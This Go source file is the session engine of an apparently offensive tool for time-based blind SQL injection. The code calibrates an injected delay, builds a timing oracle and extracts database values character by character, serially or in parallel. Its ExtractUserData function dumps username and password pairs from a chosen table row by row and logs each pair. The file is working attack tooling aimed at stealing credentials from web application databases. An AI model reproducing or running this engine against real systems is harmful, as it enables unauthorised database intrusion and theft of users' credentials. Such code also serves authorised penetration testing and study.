package engine

import (
	"context"
	"fmt"
	"log/slog"
	"os"
	"time"

	"github.com/google/uuid"

	"github.com/0x6d61/timeleech/internal/calibrate"
	"github.com/0x6d61/timeleech/internal/dbms"
	"github.com/0x6d61/timeleech/internal/extract"
	"github.com/0x6d61/timeleech/internal/oracle"
	"github.com/0x6d61/timeleech/internal/payload"
	"github.com/0x6d61/timeleech/internal/stats"
	"github.com/0x6d61/timeleech/internal/transport"
)

// Session owns one extraction run: the HTTP client, the analyzer, the
// oracle with its cached baseline, and the chosen delay. Sessions are
// created per extract command and hold no persisted state.
type Session struct {
	// ID identifies this run in logs and reports.
	ID string

	cfg      Config
	client   transport.Client
	analyzer *stats.Analyzer
	prober   *oracle.Prober
	oracle   *oracle.Oracle
	template *payload.Template
	dialect  dbms.Dialect
	logger   *slog.Logger

	delay    float64
	fallback bool

	onProgress func(msg string)
}

// Result is the outcome of one Extract call.
type Result struct {
	// ID is the session run ID.
	ID string `json:"id"`

	// Value is the extracted string.
	Value string `json:"value"`

	// Queries is the total number of probes issued through the session's
	// oracle so far, baseline included. Calibration probes are not
	// counted.
	Queries int64 `json:"queries"`

	// Duration is the wall-clock time of this Extract call.
	Duration time.Duration `json:"duration"`

	// Delay is the server-side delay used.
	Delay float64 `json:"delay"`

	// CalibrationFallback is set when the calibrator could not find a
	// detectable delay and fell back to the default.
	CalibrationFallback bool `json:"calibration_fallback"`

	// Partial is set when extraction was interrupted and Value is a
	// prefix of the target string.
	Partial bool `json:"partial"`

	// Trace holds per-probe records when tracing is enabled.
	Trace []oracle.Record `json:"trace,omitempty"`
}

// Credential is one extracted username/password pair.
type Credential struct {
	Username string `json:"username"`
	Password string `json:"password"`
}

// NewSession validates the configuration and wires up a session. All
// configuration errors are fatal here, before any probe is sent.
func NewSession(client transport.Client, cfg Config) (*Session, error) {
	cfg.normalize()
	if err := cfg.Validate(); err != nil {
		return nil, err
	}

	tpl, err := payload.New(cfg.Template)
	if err != nil {
		return nil, err
	}

	prober, err := oracle.NewProber(client, cfg.URL, oracle.ProberOptions{
		Param:   cfg.Param,
		Headers: cfg.Headers,
		Cookies: cfg.Cookies,
		Timeout: cfg.Timeout,
	})
	if err != nil {
		return nil, err
	}

	logger := newLogger(cfg.Verbose)
	analyzer := stats.NewAnalyzer()
	dialect := dbms.Registry(cfg.DBMS)

	s := &Session{
		ID:       uuid.New().String(),
		cfg:      cfg,
		client:   client,
		analyzer: analyzer,
		prober:   prober,
		template: tpl,
		dialect:  dialect,
		logger:   logger,
		delay:    cfg.Delay,
	}

	return s, nil
}

// newLogger maps the verbosity level to slog levels the same way across
// all commands.
func newLogger(verbose int) *slog.Logger {
	logLevel := slog.LevelError
	switch {
	case verbose >= 3:
		logLevel = slog.LevelDebug
	case verbose >= 2:
		logLevel = slog.LevelInfo
	case verbose >= 1:
		logLevel = slog.LevelWarn
	}
	return slog.New(slog.NewTextHandler(os.Stderr, &slog.HandlerOptions{Level: logLevel}))
}

// SetProgressCallback sets a function called with status messages.
func (s *Session) SetProgressCallback(fn func(string)) {
	s.onProgress = fn
}

// progress sends a status message via the progress callback if set.
func (s *Session) progress(format string, args ...any) {
	if s.onProgress != nil {
		s.onProgress(fmt.Sprintf(format, args...))
	}
}

// Delay returns the server-side delay the session will inject, running
// the calibrator first when none was configured.
func (s *Session) Delay(ctx context.Context) (float64, error) {
	if s.delay > 0 {
		return s.delay, nil
	}

	s.progress("detecting optimal delay based on network conditions")
	cal := calibrate.New(s.prober, s.template, s.dialect, calibrate.Options{
		Logger: s.logger,
	})
	res, err := cal.DetectOptimalDelay(ctx)
	if err != nil {
		return 0, err
	}

	s.delay = res.Delay
	s.fallback = res.Fallback
	if res.Fallback {
		s.progress("could not reliably detect delay, using fallback %.1fs", res.Delay)
	} else {
		s.progress("optimal delay detected: %.1fs", res.Delay)
	}
	return s.delay, nil
}

// ensureOracle builds the shared oracle once the delay is known. The
// oracle caches the prompt baseline across every extraction in this
// session.
func (s *Session) ensureOracle(ctx context.Context) (*oracle.Oracle, error) {
	if s.oracle != nil {
		return s.oracle, nil
	}

	delay, err := s.Delay(ctx)
	if err != nil {
		return nil, err
	}

	s.oracle = oracle.New(s.prober, s.analyzer, s.template, s.dialect, oracle.Options{
		Delay:           delay,
		Samples:         s.cfg.Samples,
		BaselineSamples: s.cfg.BaselineSamples,
		Trace:           s.cfg.Trace,
		Logger:          s.logger,
	})
	return s.oracle, nil
}

// Extract recovers the first row of SELECT column FROM table WHERE where
// through the timing oracle, up to maxLength characters. Cancellation
// returns the partial prefix extracted so far with Partial set.
func (s *Session) Extract(ctx context.Context, table, column, where string, maxLength int) (*Result, error) {
	if where == "" {
		where = oracle.TruePredicate
	}
	if maxLength <= 0 {
		maxLength = 100
	}

	orc, err := s.ensureOracle(ctx)
	if err != nil {
		return nil, err
	}

	target := extract.Target{Table: table, Column: column, Where: where}
	start := time.Now()

	var value string
	if s.cfg.Parallel {
		scheduler := extract.NewScheduler(func() extract.CharExtractor {
			return extract.NewBinaryExtractor(orc, s.dialect, target)
		}, s.cfg.Workers)
		scheduler.OnProgress = func(done, total int) {
			s.progress("parallel extraction progress: %d/%d", done, total)
		}
		value = scheduler.ExtractStringChunks(ctx, maxLength, s.cfg.ChunkSize)
	} else {
		extractor := extract.NewBinaryExtractor(orc, s.dialect, target)
		extractor.OnProgress = s.onProgress
		value = extractor.ExtractString(ctx, maxLength)
	}

	res := &Result{
		ID:                  s.ID,
		Value:               value,
		Queries:             orc.Queries(),
		Duration:            time.Since(start),
		Delay:               s.delay,
		CalibrationFallback: s.fallback,
		Partial:             ctx.Err() != nil,
		Trace:               orc.Trace(),
	}
	return res, nil
}

// ExtractUserData dumps username/password pairs row by row, stopping at
// the first row with an empty username or after limit rows.
func (s *Session) ExtractUserData(ctx context.Context, table, userColumn, passColumn string, limit int) ([]Credential, error) {
	var creds []Credential

	for i := 0; i < limit; i++ {
		if ctx.Err() != nil {
			break
		}
		where := fmt.Sprintf("1=1 LIMIT %d,1", i)

		s.progress("extracting user %d", i+1)
		userRes, err := s.Extract(ctx, table, userColumn, where, 50)
		if err != nil {
			return creds, err
		}
		if userRes.Value == "" {
			break
		}

		passRes, err := s.Extract(ctx, table, passColumn, where, 100)
		if err != nil {
			return creds, err
		}

		creds = append(creds, Credential{
			Username: userRes.Value,
			Password: passRes.Value,
		})
		s.progress("extracted: %s:%s", userRes.Value, passRes.Value)
	}

	return creds, nil
}

// Queries returns the total probe count issued through this session's
// oracle, baseline included and calibration probes excluded.
func (s *Session) Queries() int64 {
	if s.oracle == nil {
		return 0
	}
	return s.oracle.Queries()
}
